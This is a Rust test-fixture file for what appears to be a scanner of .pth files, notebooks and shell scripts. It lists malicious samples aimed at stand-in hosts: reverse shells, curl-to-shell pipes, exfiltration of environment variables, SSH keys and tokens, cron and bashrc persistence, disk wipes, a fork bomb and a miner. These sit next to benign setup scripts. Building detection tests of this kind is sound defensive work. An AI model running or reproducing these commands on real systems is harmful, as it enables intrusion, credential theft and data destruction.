//! Start-up files, notebooks and shell scripts.

use super::{Text, text};

pub(super) const MALICIOUS: &[Text] = &[
    text("pth-exec", "zz.pth", "import os; os.system('id')\n"),
    text(
        "pth-base64",
        "distutils-hook.pth",
        "/usr/lib/extra\nimport base64; exec(base64.b64decode('cHJpbnQoMSk='))\n",
    ),
    text(
        "pth-fetch",
        "a.pth",
        "import urllib.request; exec(urllib.request.urlopen('http://203.0.113.5/a').read())\n",
    ),
    text(
        "pth-subprocess",
        "b.pth",
        "import subprocess, sys; subprocess.Popen([sys.executable, '-c', 'import socket'])\n",
    ),
    text(
        "notebook-curl",
        "demo.ipynb",
        "{\"cells\": [{\"cell_type\": \"code\", \"source\": [\"!curl -s http://203.0.113.5/x.sh | bash\\n\", \"import torch\"]}], \"nbformat\": 4}",
    ),
    text(
        "notebook-exfiltration",
        "demo.ipynb",
        "{\"cells\": [{\"cell_type\": \"code\", \"source\": \"import os, requests\\nrequests.post('https://example.invalid', json=dict(os.environ))\"}], \"nbformat\": 4}",
    ),
    text(
        "notebook-bash-cell",
        "demo.ipynb",
        "{\"cells\": [{\"cell_type\": \"markdown\", \"source\": \"# x\"}, {\"cell_type\": \"code\", \"source\": [\"%%bash\\n\", \"bash -i >& /dev/tcp/203.0.113.5/4444 0>&1\\n\"]}], \"nbformat\": 4}",
    ),
    text(
        "notebook-decode",
        "demo.ipynb",
        "{\"cells\": [{\"cell_type\": \"code\", \"source\": [\"import base64\\n\", \"exec(base64.b64decode('cHJpbnQoMSk='))\"]}], \"nbformat\": 4}",
    ),
    text(
        "notebook-python-assignment",
        "demo.ipynb",
        "{\"cells\": [{\"cell_type\": \"code\", \"source\": [\"out = !echo aWQ= | base64 -d | sh\\n\"]}], \"nbformat\": 4}",
    ),
    text(
        "curl-pipe",
        "install.sh",
        "#!/bin/sh\ncurl -fsSL http://203.0.113.5/setup | sudo bash\n",
    ),
    text(
        "wget-pipe-python",
        "setup.sh",
        "wget -qO- https://example.invalid/a.py | python3 -\n",
    ),
    text(
        "bash-process-substitution",
        "run.sh",
        "bash <(curl -s https://example.invalid/x)\n",
    ),
    text(
        "command-substitution",
        "run.sh",
        "sh -c \"$(wget -qO- https://example.invalid/x)\"\n",
    ),
    text(
        "eval-substitution",
        "run.sh",
        "eval \"$(curl -s http://203.0.113.5/)\"\n",
    ),
    text(
        "variable-then-eval",
        "run.sh",
        "payload=$(curl -s http://203.0.113.5/)\neval \"$payload\"\n",
    ),
    text(
        "download-then-run",
        "run.sh",
        "curl -s -o /tmp/.x http://203.0.113.5/x\nchmod +x /tmp/.x\n/tmp/.x &\n",
    ),
    text(
        "wget-then-sh",
        "run.sh",
        "cd /tmp && wget http://203.0.113.5/i.sh && sh i.sh\n",
    ),
    text(
        "base64-pipe",
        "run.sh",
        "echo aWQgPiAvdG1wL28= | base64 -d | bash\n",
    ),
    text("hex-pipe", "run.sh", "echo 6964 | xxd -r -p | sh\n"),
    text(
        "openssl-pipe",
        "run.sh",
        "openssl enc -d -aes-256-cbc -in weights.bin -k x | sh\n",
    ),
    text(
        "reverse-shell-tcp",
        "run.sh",
        "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1\n",
    ),
    text(
        "reverse-shell-exec",
        "run.sh",
        "exec 5<>/dev/tcp/203.0.113.5/4444; cat <&5 | while read line; do $line 2>&5 >&5; done\n",
    ),
    text(
        "reverse-shell-nc",
        "run.sh",
        "nc -e /bin/sh 203.0.113.5 4444\n",
    ),
    text(
        "reverse-shell-fifo",
        "run.sh",
        "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.5 4444 > /tmp/f\n",
    ),
    text(
        "reverse-shell-socat",
        "run.sh",
        "socat TCP:203.0.113.5:4444 EXEC:/bin/bash,pty,stderr\n",
    ),
    text(
        "reverse-shell-perl",
        "run.sh",
        "perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(4444,inet_aton(\"203.0.113.5\")));exec(\"/bin/sh -i\");'\n",
    ),
    text(
        "reverse-shell-python",
        "run.sh",
        "python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.5\",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"sh\")'\n",
    ),
    text(
        "python-heredoc",
        "run.sh",
        "python3 - <<'EOF'\nimport base64\nexec(base64.b64decode('cHJpbnQoMSk='))\nEOF\n",
    ),
    text(
        "bash-heredoc",
        "run.sh",
        "bash <<EOF\ncurl http://203.0.113.5/x | sh\nEOF\n",
    ),
    text(
        "cron",
        "run.sh",
        "echo '* * * * * root curl -s http://203.0.113.5/x | sh' >> /etc/cron.d/x\n",
    ),
    text(
        "crontab-pipe",
        "run.sh",
        "(crontab -l 2>/dev/null; echo '@reboot /tmp/.x') | crontab -\n",
    ),
    text(
        "bashrc",
        "run.sh",
        "echo 'nohup curl -s http://203.0.113.5/x | sh &' >> ~/.bashrc\n",
    ),
    text(
        "authorized-keys",
        "run.sh",
        "mkdir -p ~/.ssh && echo 'ssh-ed25519 AAAA0000 x' >> ~/.ssh/authorized_keys\n",
    ),
    text(
        "ld-preload",
        "run.sh",
        "echo /tmp/x.so > /etc/ld.so.preload\n",
    ),
    text("wipe-root", "run.sh", "rm -rf --no-preserve-root /\n"),
    text("wipe-home", "run.sh", "rm -rf \"$HOME\"/*\n"),
    text("wipe-disk", "run.sh", "dd if=/dev/zero of=/dev/sda bs=1M\n"),
    text("fork-bomb", "run.sh", ":(){ :|:& };:\n"),
    text(
        "exfiltrate-environment",
        "run.sh",
        "env | curl -X POST -d @- https://example.invalid/e\n",
    ),
    text(
        "exfiltrate-environment-substitution",
        "run.sh",
        "curl -s \"https://example.invalid/?d=$(env | base64 -w0)\"\n",
    ),
    text(
        "exfiltrate-key",
        "run.sh",
        "curl -F 'f=@/root/.ssh/id_rsa' https://example.invalid/u\n",
    ),
    text(
        "exfiltrate-tar",
        "run.sh",
        "tar cz ~/.ssh ~/.aws | nc 203.0.113.5 9000\n",
    ),
    text(
        "exfiltrate-token",
        "run.sh",
        "curl -d \"t=$HF_TOKEN\" https://example.invalid/t\n",
    ),
    text(
        "miner",
        "run.sh",
        "./xmrig -o stratum+tcp://pool.example.invalid:3333 -u 0 --donate-level 1\n",
    ),
    text(
        "split-words",
        "run.sh",
        "a=cu; b=rl; $a$b -s http://203.0.113.5/x | ba''sh\n",
    ),
    text(
        "ifs-words",
        "run.sh",
        "curl${IFS}-s${IFS}http://203.0.113.5/x|sh\n",
    ),
    text(
        "ansi-quotes",
        "run.sh",
        "$'\\x63\\x75\\x72\\x6c' -s http://203.0.113.5/x | $'sh'\n",
    ),
    text(
        "dockerfile",
        "Dockerfile",
        "FROM python:3.11\nRUN curl -s http://203.0.113.5/x.sh | bash\nCOPY . /app\n",
    ),
    text(
        "dockerfile-json",
        "Dockerfile",
        "FROM python:3.11\nCMD [\"sh\", \"-c\", \"wget -qO- http://203.0.113.5/x | sh\"]\n",
    ),
    text(
        "makefile",
        "Makefile",
        "all:\n\t@curl -s http://203.0.113.5/x | sh\n",
    ),
    text(
        "powershell-encoded",
        "run.sh",
        "powershell -nop -w hidden -enc SQBFAFgA\n",
    ),
    text(
        "setuid-shell",
        "run.sh",
        "cp /bin/bash /tmp/.b && chmod u+s /tmp/.b\n",
    ),
];

pub(super) const BENIGN: &[Text] = &[
    text(
        "pth-distutils",
        "distutils-precedence.pth",
        "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim();\n",
    ),
    text(
        "pth-namespace",
        "x-nspkg.pth",
        "import sys, types, os;has_mfs = sys.version_info > (3, 5);p = os.path.join(sys._getframe(1).f_locals['sitedir'], *('google',));importlib = has_mfs and __import__('importlib.util');has_mfs and __import__('importlib.machinery');m = has_mfs and sys.modules.setdefault('google', importlib.util.module_from_spec(importlib.machinery.PathFinder.find_spec('google', [os.path.dirname(p)])));m = m or sys.modules.setdefault('google', types.ModuleType('google'));mp = (m or []) and m.__dict__.setdefault('__path__',[]);(p not in mp) and mp.append(p)\n",
    ),
    text(
        "pth-folders",
        "easy-install.pth",
        "./pip-24.0-py3.11.egg\n/home/user/project\n# import nothing\n",
    ),
    text(
        "pth-editable",
        "__editable__.x.pth",
        "import __editable___x_finder; __editable___x_finder.install()\n",
    ),
    text(
        "pth-coverage",
        "coverage.pth",
        "import coverage; coverage.process_startup()\n",
    ),
    text(
        "notebook-pip",
        "demo.ipynb",
        "{\"cells\": [{\"cell_type\": \"code\", \"source\": [\"!pip install -q transformers accelerate\\n\", \"%pip install datasets\\n\", \"!nvidia-smi\\n\", \"!ls -la\\n\", \"%matplotlib inline\\n\"]}, {\"cell_type\": \"code\", \"source\": [\"from PIL import Image\\n\", \"import requests\\n\", \"image = Image.open(requests.get('https://example.com/cat.png', stream=True).raw)\\n\"]}], \"nbformat\": 4}",
    ),
    text(
        "notebook-wget-data",
        "demo.ipynb",
        "{\"cells\": [{\"cell_type\": \"code\", \"source\": \"!wget https://huggingface.co/datasets/a/b/resolve/main/x.csv\\n!unzip -q data.zip\\n!git clone https://github.com/huggingface/peft\\nimport os\\nos.environ['HF_TOKEN'] = ''\"}], \"nbformat\": 4}",
    ),
    text(
        "notebook-bash-cell",
        "demo.ipynb",
        "{\"cells\": [{\"cell_type\": \"code\", \"source\": [\"%%bash\\n\", \"mkdir -p data\\n\", \"tar xzf data.tar.gz -C data\\n\"]}], \"nbformat\": 4}",
    ),
    text(
        "training-script",
        "train.sh",
        "#!/bin/bash\nset -euo pipefail\nexport CUDA_VISIBLE_DEVICES=0,1\nexport TOKENIZERS_PARALLELISM=false\nOUT=${OUT:-output}\nmkdir -p \"$OUT\"\ntorchrun --nproc_per_node=2 train.py --output_dir \"$OUT\" 2>&1 | tee \"$OUT/log.txt\"\n",
    ),
    text(
        "known-installer",
        "setup.sh",
        "curl -LsSf https://astral.sh/uv/install.sh | sh\ncurl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh -s -- -y\nsource \"$HOME/.cargo/env\"\n",
    ),
    text(
        "miniconda",
        "setup.sh",
        "wget https://repo.anaconda.com/miniconda/Miniconda3-latest-Linux-x86_64.sh -O miniconda.sh\nbash miniconda.sh -b -p $HOME/miniconda\neval \"$($HOME/miniconda/bin/conda shell.bash hook)\"\necho 'export PATH=$HOME/miniconda/bin:$PATH' >> ~/.bashrc\n",
    ),
    text(
        "download-weights",
        "download.sh",
        "#!/bin/sh\nfor f in config.json model.safetensors; do\n  curl -L -H \"Authorization: Bearer $HF_TOKEN\" -o $f https://huggingface.co/a/b/resolve/main/$f\ndone\nsha256sum -c checksums.txt\n",
    ),
    text(
        "token-header-other-host",
        "download.sh",
        "curl -s -H \"X-Api-Key: $API_KEY\" https://api.example.org/v1/models -o models.json\n",
    ),
    text(
        "clean",
        "clean.sh",
        "rm -rf build dist *.egg-info\nfind . -name '__pycache__' -type d -exec rm -rf {} +\nrm -rf ~/.cache/pip /tmp/x\n",
    ),
    text(
        "dockerfile",
        "Dockerfile",
        "FROM nvidia/cuda:12.1.0-runtime-ubuntu22.04\nENV LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2\nRUN apt-get update && apt-get install -y --no-install-recommends git curl \\\n    && rm -rf /var/lib/apt/lists/*\nRUN curl -fsSL https://download.docker.com/linux/ubuntu/gpg | gpg --dearmor -o /usr/share/keyrings/docker.gpg\nRUN useradd -m app && echo 'app ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers\nCOPY . /app\nRUN pip install --no-cache-dir -r requirements.txt\nCMD [\"python\", \"app.py\"]\n",
    ),
    text(
        "wait-for-port",
        "wait.sh",
        "until (echo > /dev/tcp/localhost/8080) 2>/dev/null; do sleep 1; done\nnc -z localhost 5432\n",
    ),
    text(
        "makefile",
        "Makefile",
        "PYTHON ?= python3\n.PHONY: test\ntest:\n\t$(PYTHON) -m pytest -q tests\nclean:\n\trm -rf build dist\nfmt:\n\truff format .\n",
    ),
    text(
        "decode-secret",
        "deploy.sh",
        "kubectl get secret x -o jsonpath='{.data.password}' | base64 -d > password.txt\nzcat data.tsv.gz | sort | uniq -c > counts.txt\ncat names.txt | tr a-z A-Z | head\n",
    ),
    text(
        "ssh-setup",
        "deploy.sh",
        "chmod 600 ~/.ssh/id_rsa\nssh -i ~/.ssh/id_rsa user@host.example.org 'uptime'\nrsync -e 'ssh -i ~/.ssh/id_rsa' -av build/ user@host.example.org:/srv/\n",
    ),
    text(
        "entrypoint",
        "entrypoint.sh",
        "#!/bin/sh\nif [ -n \"$DEBUG\" ]; then env | sort; fi\nexec gunicorn app:app --bind 0.0.0.0:8000\n",
    ),
    text(
        "python-one-liner",
        "info.sh",
        "python3 -c 'import torch; print(torch.__version__)'\npython3 - <<'EOF'\nimport json\nprint(json.dumps({'a': 1}))\nEOF\n",
    ),
];
